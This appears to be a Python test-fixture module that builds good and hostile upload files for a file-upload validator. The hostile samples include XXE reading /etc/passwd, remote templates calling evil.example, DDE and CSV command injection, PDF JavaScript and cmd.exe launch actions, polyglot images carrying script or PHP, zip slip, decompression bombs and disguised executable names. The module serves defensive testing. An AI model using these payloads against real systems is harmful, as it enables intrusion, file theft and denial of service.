"""Files as people and attackers send them, built in code: no virus scanner ever finds one in this repository."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache
from typing import Any


@dataclass(frozen=True, slots=True)
class Case:
    """A file under a name; ``code`` and ``values`` of its refusal, None for a good one."""

    label: str
    name: str
    data: bytes
    code: str | None = None
    values: dict[str, Any] = field(default_factory=dict)


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST" + b"-FILE!$H+H*"
EXE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + bytes(200)
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

# --- pictures ---


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">L", len(body)) + name + body + struct.pack(">L", zlib.crc32(name + body))


def png(width: int = 3, height: int = 2) -> bytes:
    rows = (b"\0" + b"\xff\0\0" * width) * height if width * height < 10_000 else b"\0"
    head = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def jpeg(width: int = 3, height: int = 2, app: bytes = b"\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0") -> bytes:
    frame = b"\xff\xc0\0\x11\x08" + struct.pack(">HH", height, width) + b"\x03\x01\x22\0\x02\x11\x01\x03\x11\x01"
    scan = b"\xff\xda\0\x0c\x03\x01\0\x02\x11\x03\x11\0\x3f\0\x12\x34\xff\0\x56"
    return b"\xff\xd8" + app + frame + scan + b"\xff\xd9"


def gif(width: int = 3, height: int = 2, comment: bytes = b"") -> bytes:
    said = b"!\xfe" + bytes([len(comment)]) + comment + b"\0" if comment else b""
    return (b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\0\0" + b"\xff\xff\xff\0\0\0" + said
            + b",\0\0\0\0\x03\0\x02\0\0" + b"\x02\x03\x84\x8f\x05\0" + b";")


def webp(width: int = 3, height: int = 2) -> bytes:
    bits = (width - 1) | (height - 1) << 14
    body = b"WEBPVP8L" + struct.pack("<L", 6) + b"\x2f" + struct.pack("<L", bits) + b"\0"
    return b"RIFF" + struct.pack("<L", len(body)) + body


def box(name: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">L", len(body) + 8) + name + body


def heic(width: int = 4032, height: int = 3024, brand: bytes = b"heic") -> bytes:
    spatial = box(b"ispe", bytes(4), struct.pack(">LL", width, height))
    meta = box(b"meta", bytes(4), box(b"iprp", box(b"ipco", spatial)))
    return box(b"ftyp", brand, bytes(4), b"mif1heic") + meta + box(b"mdat", bytes(64))


# --- PDF ---


def pdf(*objects: bytes, root: bytes = b"", tail: bytes = b"") -> bytes:
    """A whole PDF of one empty page; ``objects`` follow from number 4, ``root`` goes into the catalog."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R" + root + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
        *objects,
    ]
    return bound(*bodies, tail=tail)


def bound(*bodies: bytes, tail: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalog."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, tail, start)
    return bytes(out)


def stream(about: bytes, body: bytes) -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (about, len(body), body)


def packed(objects: bytes, about: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode") -> bytes:
    return stream(about, zlib.compress(b"9 0 " + objects))


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"

# --- office ---

SCHEMAS, OOXML = "http://schemas.openxmlformats.org/", "application/vnd.openxmlformats-"
TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    f'<Types xmlns="{SCHEMAS}package/2006/content-types">'
    f'<Default Extension="rels" ContentType="{OOXML}package.relationships+xml"/>'
    f'<Override PartName="/{{part}}" ContentType="{OOXML}officedocument.{{kind}}.main+xml"/>{{more}}</Types>'
)
RELATIONS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    f'<Relationships xmlns="{SCHEMAS}package/2006/relationships">'
    f'<Relationship Id="r1" Type="{SCHEMAS}officeDocument/2006/relationships/{{kind}}" Target="{{target}}"{{mode}}/>'
    '</Relationships>'
)
OUTSIDE = ' TargetMode="External"'
KINDS = {
    "docx": ("word/document.xml", "wordprocessingml.document"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation"),
}
BODY = '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="urn:w"><w:p>Data sheet</w:p></w:document>'

Members = dict[str, bytes | str]


def zipped(members: Members | list[tuple[str | zipfile.ZipInfo, bytes | str]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items() if isinstance(members, dict) else members:
            how = zipfile.ZIP_STORED if name == "mimetype" else zipfile.ZIP_DEFLATED
            archive.writestr(name, body, how)
    return out.getvalue()


def members(extension: str = "docx", more: str = "") -> Members:
    part, kind = KINDS[extension]
    return {
        "[Content_Types].xml": TYPES.format(part=part, kind=kind, more=more),
        "_rels/.rels": relation("officeDocument", part),
        part: BODY,
    }


def relation(kind: str, target: str, mode: str = "") -> str:
    return RELATIONS.format(kind=kind, target=target, mode=mode)


def office(extension: str = "docx", more: Members | None = None, types: str = "") -> bytes:
    return zipped({**members(extension, types), **(more or {})})


def linked(kind: str, target: str, mode: str = OUTSIDE, extension: str = "docx") -> bytes:
    part = KINDS[extension][0]
    folder, _, name = part.rpartition("/")
    return office(extension, {f"{folder}/_rels/{name}.rels": relation(kind, target, mode)})


def odf(kind: str = "text", more: Members | None = None, content: str = "<o:document-content xmlns:o='urn:o'/>",
        manifest: str = "<manifest:manifest xmlns:manifest='urn:m'/>") -> bytes:
    return zipped({
        "mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": content, **(more or {}),
        "META-INF/manifest.xml": manifest,
    })


def symlink() -> bytes:
    link = zipfile.ZipInfo("word/media/image1.png")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return zipped([*members().items(), (link, "/etc/passwd")])


def duplicated() -> bytes:
    first = office(more={"word/document.xmk": BODY})
    return first.replace(b"word/document.xmk", b"word/document.xml")


def overlapping(quoted: bool = False) -> bytes:
    """Many lines of the list, all of them about the same bytes; quoted: each member wraps the next one's head."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = kernel.compress(bytes(4096)) + kernel.flush()
    crc, names = zlib.crc32(bytes(4096)), ["[Content_Types].xml", *(f"word/{number}.xml" for number in range(200))]
    out, listed = bytearray(), bytearray()
    for name in names if quoted else names[:1]:
        out += struct.pack("<L5H3L2H", 0x04034B50, 20, 0, 8, 0, 0, crc, len(body), 4096, len(name), 0) + name.encode()
    out += body
    at = 0
    for name in names:
        size = len(out) - at - 30 - len(name) if quoted else len(body)
        listed += struct.pack("<L6H3L5H2L", 0x02014B50, 20, 20, 0, 8, 0, 0, crc, size, 4096, len(name), 0, 0, 0, 0, 0,
                              at if quoted else 0) + name.encode()
        at += 30 + len(name)
    end = struct.pack("<L4H2LH", 0x06054B50, 0, 0, len(names), len(names), len(listed), len(out), 0)
    return bytes(out + listed + end)


def lying() -> bytes:
    """A member that tells a hundredth of what it unpacks to."""
    whole = office(more={"word/media/a.xml": b"<a>" + b"b" * 50_000 + b"</a>"})
    return whole.replace(struct.pack("<L", 50_007), struct.pack("<L", 507))


def gapped() -> bytes:
    """Bytes between the members that no list names."""
    whole = office()
    at = whole.index(b"PK\x01\x02")
    end = bytearray(whole[at:])
    place, = struct.unpack_from("<L", end, len(end) - 6)
    struct.pack_into("<L", end, len(end) - 6, place + len(EXE))
    return whole[:at] + EXE + bytes(end)


def nested(depth: int) -> bytes:
    body = zipped({"0.bin": bytes(1_000_000)})
    for _ in range(depth):
        body = zipped({f"{number}.zip": body for number in range(16)})
    return body


# --- all of them ---


def good() -> Iterator[Case]:
    yield Case("an empty page", "report.pdf", pdf())
    yield Case("a link that looks like a script", "links.pdf", pdf(
        b"<</Subtype/Link/A<</S/URI/URI(https://developer.mozilla.org/Web/JavaScript/Guide)>>>>",
        stream(b"/Filter/FlateDecode", zlib.compress(b"BT (/JS \\(not a script\\)) Tj ET")),
        packed(b"<</Title(/Launch of the product)>>")))
    yield Case("revised and signed", "signed.pdf", pdf() + b"4 0 obj\n<</Type/Sig/Contents<00>>>\nendobj\n%%EOF\n")
    yield Case("picture", "site plan.png", png())
    yield Case("photo", "IMG_0001.JPG", jpeg())
    yield Case("photo with smaller ones after it", "IMG_0002.jpeg", jpeg() + jpeg())
    yield Case("photo with a film after it", "motion.jpg", jpeg() + box(b"ftyp", b"mp42") + box(b"mdat", bytes(90)))
    yield Case("animation", "steps.gif", gif(comment=b"made by us"))
    yield Case("web picture", "chart.webp", webp())
    yield Case("photo of a phone", "IMG_0003.HEIC", heic())
    yield Case("photo of another phone", "IMG_0004.heic", heic(brand=b"mif1"))
    yield Case("text", "合同.txt", "Müller, 合同, عقد\r\n".encode())
    yield Case("text in UTF-16", "notes.txt", "Zürich\r\n".encode("utf-16"))
    yield Case("table", "lamps.csv", b"\xef\xbb\xbfroom;lamps;change\n1;12;-3\n2;8;=B1+1\n")
    yield Case("letter with a picture, a link and the author's template", "letter.docx", office(more={
        "word/media/image1.png": png(),
        "word/media/image2.emz": b"\x1f\x8b\x08\0" + bytes(40),
        "word/theme/theme1.xml": '<?xml version="1.0"?><a:theme xmlns:a="urn:a"/>',
        "word/_rels/document.xml.rels": relation("hyperlink", "https://example.org/a?b=1&amp;c=2", OUTSIDE),
        "word/_rels/settings.xml.rels": relation(
            "attachedTemplate", "file:///C:\\Users\\Ann\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", OUTSIDE),
    }))
    yield Case("workbook with a table and printer settings", "costs.xlsx", office("xlsx", {
        "xl/tables/table1.xml": '<?xml version="1.0"?>\r\n<table xmlns="urn:t" id="1"/>',
        "xl/printerSettings/printerSettings1.bin": bytes(100),
        "xl/externalLinks/_rels/a.xml.rels": relation("externalLinkPath", "file:///S:\\costs.xlsx", OUTSIDE),
    }))
    yield Case("slides with a chart's workbook", "offer.pptx", office("pptx", {
        "ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}))
    yield Case("written as a stream", "stream.xlsx", streamed())
    yield Case("part in UTF-16", "wide.docx", office(more={
        "customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")}))
    yield Case("open document", "minutes.odt", odf(more={"Basic/script-lc.xml": "<library/>"}))
    yield Case("open spreadsheet", "table.ods", odf("spreadsheet"))
    yield Case("open slides", "talk.odp", odf("presentation"))


def streamed() -> bytes:
    """Sizes after each member instead of before it, as programs write that cannot go back."""
    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def tell(self) -> int:
            raise OSError

    out = Pipe()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members("xlsx").items():
            archive.writestr(name, body)
    return out.getvalue()


@cache
def hostile() -> tuple[Case, ...]:
    return (*_types(), *_disguised(), *_pictures(), *_pdfs(), *_office_files(), *_zips(), *_texts())


def _types() -> Iterator[Case]:
    def refused(label: str, name: str, data: bytes, kind: str) -> Case:
        return Case(label, name, data, "upload.type", {"kind": kind})

    yield refused("SVG with a script", "logo.svg", SVG, "drawing")
    yield refused("HTML", "page.html", PAGE, "web_page")
    yield refused("program", "setup.exe", EXE, "program")
    yield refused("script", "go.js", b"alert(1)", "program")
    yield refused("program behind a reversed name", "invoice\u202efdp.exe", EXE, "program")
    yield refused("program behind spaces", "invoice.pdf" + " " * 120 + ".exe", EXE, "program")
    yield refused("program behind a NUL", "invoice.pdf\0.exe", EXE, "program")
    yield refused("macro document", "letter.docm", office(), "macro")
    yield refused("zip", "plan.zip", zipped({"a.txt": "a"}), "archive")
    yield refused("EICAR in a zip", "eicar.zip", zipped({"eicar.com": EICAR}), "archive")
    yield refused("42-style bomb", "42.zip", nested(2), "archive")
    yield refused("old office", "letter.doc", CFB, "old_office")
    yield refused("no extension", "README", b"hello", "unknown")
    yield refused("a name that is only an extension of another", "pdf", pdf(), "unknown")
    yield refused("unknown extension", "a.xyz", b"hello", "unknown")


def _disguised() -> Iterator[Case]:
    def refused(label: str, name: str, data: bytes, found: str) -> Case:
        return Case(label, name, data, "upload.disguised", {"found": found})

    for extension in ("pdf", "docx", "png", "txt", "csv", "jpg", "xlsx"):
        yield refused(f"HTML as {extension}", f"offer.{extension}", PAGE, "web_page")
    yield refused("SVG as PNG", "logo.png", SVG, "drawing")
    yield refused("SVG as text", "logo.txt", SVG, "drawing")
    yield refused("HTML in UTF-16 as text", "page.txt", PAGE.decode().encode("utf-16"), "web_page")
    yield refused("program as PDF", "offer.pdf", EXE, "program")
    yield refused("ELF as picture", "a.png", b"\x7fELF\x02\x01\x01" + bytes(60), "program")
    yield refused("shell script as text", "read.txt", b"#!/bin/sh\nrm -rf /\n", "program")
    yield refused("picture as PDF", "scan.pdf", png(), "png")
    yield refused("PDF as picture", "scan.png", pdf(), "pdf")
    yield refused("plain zip as docx", "data.docx", zipped({"a.txt": "a"}), "archive")
    yield refused("RAR as docx", "data.docx", b"Rar!\x1a\x07\x01\0" + bytes(60), "archive")
    yield refused("spreadsheet as letter", "data.docx", office("xlsx"), "xlsx")
    yield refused("open document as slides", "data.odp", odf(), "odt")
    yield refused("docx as open document", "data.odt", office(), "docx")
    yield refused("old office as new", "data.docx", CFB, "old_office")
    yield refused("text as PDF", "data.pdf", b"just words", "text")
    yield refused("film as photo", "data.jpg", box(b"ftyp", b"isom", bytes(4)) + bytes(40), "video")
    yield refused("PDF and zip", "both.pdf", pdf() + zipped({"a.exe": EXE}), "archive")
    yield refused("PDF and zip that ends like a PDF", "both.pdf", _ends_like_pdf(), "archive")
    yield refused("PDF and program", "both.pdf", pdf() + EXE, "program")
    yield refused("PDF and HTML after it", "both.pdf", pdf() + PAGE, "web_page")
    yield refused("HTML, then PDF", "both.pdf", PAGE + pdf(), "web_page")
    yield refused("PDF with HTML in its first comment", "both.pdf",
                  pdf().replace(b"\xe2\xe3", b"<script>alert(1)</script>", 1), "web_page")
    yield refused("GIF and JavaScript", "both.gif", gif(0x2A2F, 2) + b"*/=1;alert(1)//", "program")
    yield refused("GIF and JavaScript after it", "both.gif", gif() + b"/**/=1;alert(1)//", "text")
    yield refused("JPEG and JavaScript", "both.jpg", jpeg(app=b"\xff\xe0/*" + bytes(0x2F2A - 2)) + b"*/=1;a(1)",
                  "program")
    yield refused("JPEG and JavaScript after it", "both.jpg", jpeg() + b"=1;alert(1)//", "text")
    yield refused("JPEG and PHP", "both.jpg", jpeg(app=b"\xff\xfe\0\x16<?php system(1); ?>"), "web_page")
    yield refused("PNG and zip", "both.png", png() + zipped({"a": "b"}), "archive")
    yield refused("PNG and RAR", "both.png", png() + b"Rar!\x1a\x07\0", "archive")
    yield refused("PNG with a page in its text", "both.png", png()[:33] + chunk(b"tEXt", b"a\0" + PAGE) + png()[33:],
                  "web_page")
    yield refused("PNG that is a PDF too", "both.png", png()[:33] + chunk(b"tEXt", b"a\0%PDF-1.4") + png()[33:], "pdf")
    yield refused("WebP and more", "both.webp", webp() + b"alert(1)//", "text")
    yield refused("docx and more", "both.docx", office() + EXE, "archive")
    yield refused("something before a docx", "both.docx", EXE + office(), "program")


def _ends_like_pdf() -> bytes:
    archive = zipped({"a.exe": EXE})
    comment = b"\n%%EOF\n"
    return pdf() + archive[:-2] + struct.pack("<H", len(comment)) + comment


def _pictures() -> Iterator[Case]:
    def bomb(label: str, name: str, data: bytes) -> Case:
        return Case(label, name, data, "upload.bomb", {"what": "pixels"})

    yield bomb("100,000 pixels wide", "wide.png", png(100_000, 1))
    yield bomb("many pixels", "many.png", png(20_000, 20_000))
    yield bomb("many pixels in JPEG", "many.jpg", jpeg(60_000, 60_000))
    yield bomb("many pixels in GIF", "many.gif", gif(60_000, 60_000))
    yield bomb("many pixels in WebP", "many.webp", webp(16_000, 16_000))
    yield bomb("many pixels in HEIC", "many.heic", heic(100_000, 100_000))
    for extension, data in {"png": png(), "jpg": jpeg(), "gif": gif(), "webp": webp(), "heic": heic()}.items():
        yield Case(f"half a {extension}", f"half.{extension}", data[:-9], "upload.broken")
    yield Case("no pixels", "none.png", png(0, 0), "upload.broken", {"why": "size"})


def _pdfs() -> Iterator[Case]:
    def active(label: str, data: bytes, what: str) -> Case:
        return Case(label, "offer.pdf", data, "upload.active", {"what": what})

    yield active("script at opening", pdf(SCRIPT, root=b"/OpenAction 4 0 R"), "script")
    yield active("script in the list of names", pdf(root=b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>"), "script")
    yield active("script spelled in numbers", pdf(b"<</#53/J#61vaScr#69pt/J#53(1)>>"), "script")
    yield active("script behind a comment", pdf(b"<</S %x\n /JavaScript /JS 5 0 R>>"), "script")
    yield active("script without a kind", pdf(b"<</JS(app.alert\\(1\\))>>"), "script")
    yield active("script address", pdf(b"<</S/URI/URI(javascript:alert\\(1\\))>>"), "script")
    yield active("script in packed objects", pdf(packed(SCRIPT)), "script")
    yield active("script in packed objects, spelled in numbers",
                 pdf(packed(SCRIPT, b"/Type/Obj#53tm/N 1/F#69rst 4/Filter/Fl#61teDecode")), "script")
    yield active("script in packed objects behind a false object",
                 pdf(packed(SCRIPT, b"/Type/ObjStm/X(1 0 obj stream\n)/N 1/First 4/Filter/FlateDecode")), "script")
    yield active("script in packed objects, far in",
                 pdf(packed(b" " * 300_000 + SCRIPT)), "script")
    yield active("packed objects in another packing",
                 pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]", b"00>")), "hidden")
    yield active("launch", pdf(b"<</S/Launch/F(cmd.exe)>>"), "launch")
    yield active("file inside", pdf(stream(b"/Type/EmbeddedFile", EXE)), "embedded")
    yield active("file inside without a type", pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"), "embedded")
    yield active("file at a place", pdf(b"<</Subtype/FileAttachment/FS 5 0 R>>"), "embedded")
    yield active("film with a script", pdf(b"<</S/Rendition/JS(1)>>"), "script")
    yield active("form of its own", pdf(root=b"/AcroForm<</XFA[(a)4 0 R]>>"), "form")
    yield Case("locked", "locked.pdf", pdf(tail=b"/Encrypt 4 0 R"), "upload.locked")
    yield Case("packed twice", "twice.pdf", pdf(stream(b"/Filter[/FlateDecode /FlateDecode]", b"x")), "upload.bomb",
               {"what": "nested"})
    yield Case("packed objects without end", "bomb.pdf", pdf(packed(bytes(140_000_000))), "upload.bomb",
               {"what": "size"})
    yield Case("packed objects that are none", "bad.pdf",
               pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", b"nothing")), "upload.broken")
    yield Case("half a PDF", "half.pdf", pdf()[:200], "upload.broken", {"why": "cut"})


def _office_files() -> Iterator[Case]:
    def active(label: str, data: bytes, what: str, name: str = "letter.docx") -> Case:
        return Case(label, name, data, "upload.active", {"what": what})

    yield active("macro", office(more={"word/vbaProject.bin": CFB}), "macro")
    yield active("macro under another name", office(more={"word/data.bin": CFB}), "embedded")
    yield active("macro by relation", linked("vbaProject", "data.xml", ""), "macro")
    yield active("macro type", office(types='<Override PartName="/a" ContentType="application/vnd.ms-word.document.'
                                            'macroEnabled.main+xml"/>'), "macro")
    yield active("old macro sheet", office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}), "macro", "a.xlsx")
    yield active("ActiveX", office(more={"word/activeX/activeX1.xml": "<a/>"}), "macro")
    yield active("remote template", linked("attachedTemplate", "https://evil.example/t.dotm"), "external")
    yield active("template on a share", linked("attachedTemplate", "file:///\\\\evil.example\\t.dotm"), "external")
    yield active("template spelled in numbers", linked("attachedTemplate", "&#104;ttps://evil.example/t"), "external")
    yield active("remote object", linked("oleObject", "https://evil.example/a"), "embedded")
    yield active("remote frame", linked("frame", "https://evil.example/a.html"), "external")
    yield active("picture on a share", linked("image", "\\\\evil.example\\a.png"), "external")
    yield active("script link", linked("hyperlink", " javascript:alert(1)"), "external")
    yield active("HTML part", linked("aFChunk", "a.xml", ""), "embedded")
    yield active("HTML inside", office(more={"word/a.bin": PAGE}), "embedded")
    yield active("program inside", office(more={"word/embeddings/a.bin": EXE}), "embedded")
    yield active("program by name", office(more={"word/media/a.js": "1"}), "embedded")
    yield active("OLE package", office(more={"word/embeddings/oleObject1.bin": CFB}), "embedded")
    yield active("zip inside", office(more={"word/media/a.bin": zipped({"b": "c"})}), "embedded")
    yield active("macro in an embedded workbook", office("pptx", {
        "ppt/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": CFB})}), "macro", "a.pptx")
    yield active("workbook in a workbook in slides", office("pptx", {
        "ppt/embeddings/a.xlsx": office("xlsx", {"xl/embeddings/b.xlsx": office("xlsx")})}), "embedded", "a.pptx")
    yield active("EICAR inside", office(more={"word/media/a.txt": EICAR}), "virus")
    laughs = '<!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>'
    dde_link = '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
    xxe = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    yield active("XXE", office(more={"word/styles.xml": xxe}), "entities")
    yield active("XXE in UTF-16", office(more={"word/styles.xml": xxe.encode("utf-16")}), "entities")
    yield active("XXE in relations", office(more={"word/_rels/a.rels": xxe}), "entities")
    yield active("XXE under another name", office(more={"word/styles.dat": xxe}), "entities")
    yield active("billion laughs", office(more={"word/styles.xml": laughs}), "entities")
    yield active("DDE field", office(more={"word/a.xml": "<w:instrText>DDEAUTO cmd</w:instrText>"}), "command")
    yield active("DDE link", office("xlsx", {"xl/externalLinks/a.xml": dde_link}), "command", "a.xlsx")
    yield active("open document with Basic", odf(more={"Basic/Standard/Module1.xml": "<a/>"}), "macro", "a.odt")
    yield active("open document with a script", odf(more={"Scripts/python/a.txt": "1"}), "macro", "a.odt")
    yield active("open document with a listener", odf(content='<script:event-listener x="1"/>'), "macro", "a.odt")
    yield active("open document with a frame", odf(content="<draw:floating-frame/>"), "external", "a.odt")
    yield active("open document with an object", odf(more={"Object 1": CFB}), "embedded", "a.odt")
    yield Case("XML in EBCDIC", "a.docx", office(more={"word/styles.xml": xxe.encode("cp037")}), "upload.broken",
               {"why": "encoding"})
    yield Case("XML in UTF-7", "a.docx", office(more={"word/a.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADw-a'}),
               "upload.broken", {"why": "encoding"})
    yield Case("docx with a password", "a.docx", CFB + "EncryptedPackage".encode("utf-16-le"), "upload.locked")
    yield Case("open document with a password", "a.odt", odf(manifest="<m:a><m:encryption-data/></m:a>"),
               "upload.locked")


def _zips() -> Iterator[Case]:
    def case(label: str, data: bytes, code: str, **values: str) -> Case:
        return Case(label, "data.docx", data, code, values)

    yield case("bomb", office(more={"word/media/a.bin": bytes(210_000_000)}), "upload.bomb", what="size")
    yield case("small bomb", office(more={"word/media/a.bin": bytes(20_000_000)}), "upload.bomb", what="size")
    yield case("many members", office(more={f"word/{n}.xml": "" for n in range(5_001)}), "upload.bomb", what="members")
    yield case("overlap", overlapping(), "upload.broken", why="structure")
    yield case("quoted overlap", overlapping(quoted=True), "upload.bomb", what="overlap")
    yield case("bomb in an embedded workbook", office("docx", {
        "word/embeddings/a.xlsx": office("xlsx", {"xl/a.bin": bytes(20_000_000)})}), "upload.bomb", what="size")
    yield case("a member that lies", lying(), "upload.bomb", what="size")
    for name in ("../../evil.xml", "/etc/evil.xml", "word\\..\\evil.xml", "C:/evil.xml", "word//evil.xml"):
        yield case(f"slip to {name}", office(more={name: "<a/>"}).replace(b"word/..\\evil", b"word\\..\\evil"),
                   "upload.broken", why="names")
    yield case("symlink", symlink(), "upload.broken", why="names")
    yield case("a name twice", duplicated(), "upload.broken", why="structure")
    yield case("a program between the members", gapped(), "upload.broken", why="structure")
    yield case("half a docx", office()[:-30], "upload.broken", why="cut")
    yield case("damaged", office().replace(b"PK\x01\x02", b"PK\x01\x03", 1), "upload.broken", why="structure")
    locked = bytearray(office())
    locked[6] |= 1
    yield case("encrypted member", bytes(locked), "upload.locked")


def _texts() -> Iterator[Case]:
    yield Case("nothing", "empty.pdf", b"", "upload.empty")
    yield Case("EICAR", "eicar.txt", EICAR, "upload.active", {"what": "virus"})
    yield Case("NUL in a text", "a.txt", b"hello\0there", "upload.broken", {"why": "binary"})
    yield Case("terminal codes in a text", "a.txt", b"hello \x1b[2J", "upload.broken", {"why": "binary"})
    yield Case("Latin-1", "a.csv", b"M\xfcller;1\n", "upload.broken", {"why": "encoding"})
    yield Case("a cell that is a command", "a.csv", b"a,b\n=cmd|' /C calc'!A0,1\n", "upload.active",
               {"what": "command"})
    yield Case("too large", "plan.pdf", pdf() + bytes(1 << 20), "upload.too_large", {"limit_mb": 1, "size_mb": 2})
